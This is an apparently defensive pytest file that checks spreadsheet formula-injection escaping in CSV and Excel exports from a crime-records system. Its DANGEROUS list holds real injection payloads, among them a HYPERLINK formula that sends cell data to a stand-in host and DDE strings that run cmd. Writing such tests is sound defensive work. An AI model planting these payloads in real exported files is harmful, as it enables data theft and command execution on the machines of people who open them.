"""Spreadsheet formula injection (OWASP "CSV Injection"): every CSV and Excel file the system writes shows a
cell that would run as a formula as text, and leaves numbers and phone numbers alone."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa
from typer.testing import CliRunner

from bench.scratch_database import drop_database, fresh_database
from cctns.cli import app
from records.spreadsheet_cells import restore_cell, safe_cell, write_frame
from tests.support import scratch_name, server_url_of

DANGEROUS = [
    '=HYPERLINK("http://x/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1",
    "-A1",
    "+",
]
HARMLESS = ["-12", "-3.5", "-1,234.50", "+91 98765 43210", "+91-98765-43210", "(0612) 2345", "Ram Kumar", "", "12"]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_cell_that_would_run_as_a_formula_is_quoted_and_comes_back(value: str) -> None:
    assert safe_cell(value) == "'" + value
    assert restore_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_numbers_phone_numbers_and_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value and restore_cell(value) == value


def test_values_that_are_not_text_are_never_touched() -> None:
    assert safe_cell(-12) == -12 and safe_cell(-3.5) == -3.5 and safe_cell(None) is None


def test_an_excel_file_holds_text_not_formulas(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=A1": ['=HYPERLINK("http://x/?"&A1,"Click")', "-3.5"], "count": [-12, 4]})
    out = tmp_path / "table.xlsx"
    write_frame(frame, out, "xlsx")
    sheet = openpyxl.load_workbook(out).active
    assert sheet is not None
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert rows == [["'=A1", "count"], ['\'=HYPERLINK("http://x/?"&A1,"Click")', -12], ["-3.5", 4]]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


@pytest.fixture
def scratch(database_url: str, monkeypatch: pytest.MonkeyPatch) -> Iterator[sa.Engine]:
    name = scratch_name(database_url, "cells")
    engine = fresh_database(server_url_of(database_url), name)
    monkeypatch.setenv("CCTNS_DATABASE_URL", engine.url.render_as_string(hide_password=False))
    yield engine
    engine.dispose()
    drop_database(server_url_of(database_url), name)


def test_ncrb_table_files_never_carry_a_formula(scratch: sa.Engine, tmp_path: Path) -> None:
    """Crime-head and district names are reference data an administrator may edit; the table writes them safely."""
    with scratch.begin() as connection:
        connection.execute(sa.text("UPDATE crime_head SET name_en = '@SUM(1+1)*cmd' WHERE code = 'THEFT'"))
        connection.execute(
            sa.text("UPDATE district_name_alias SET name = :name WHERE source = 'ncrb' AND name = 'VAISHALI'"),
            {"name": '=HYPERLINK("http://x/?"&A1,"Click")'},
        )
    runner = CliRunner()
    out_csv, out_xlsx = tmp_path / "ncrb.csv", tmp_path / "ncrb.xlsx"
    for out in (out_csv, out_xlsx):
        result = runner.invoke(app, ["ncrb", "table", "--year", "2024", "--out", str(out)])
        assert result.exit_code == 0, result.output
    rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8"))))
    assert "'@SUM(1+1)*CMD" in rows[0]
    assert ["BIHAR", '\'=HYPERLINK("http://x/?"&A1,"Click")'] in [row[:2] for row in rows]
    sheet = openpyxl.load_workbook(out_xlsx).active
    assert sheet is not None
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    assert "'@SUM(1+1)*CMD" in [cell.value for cell in sheet[1]]
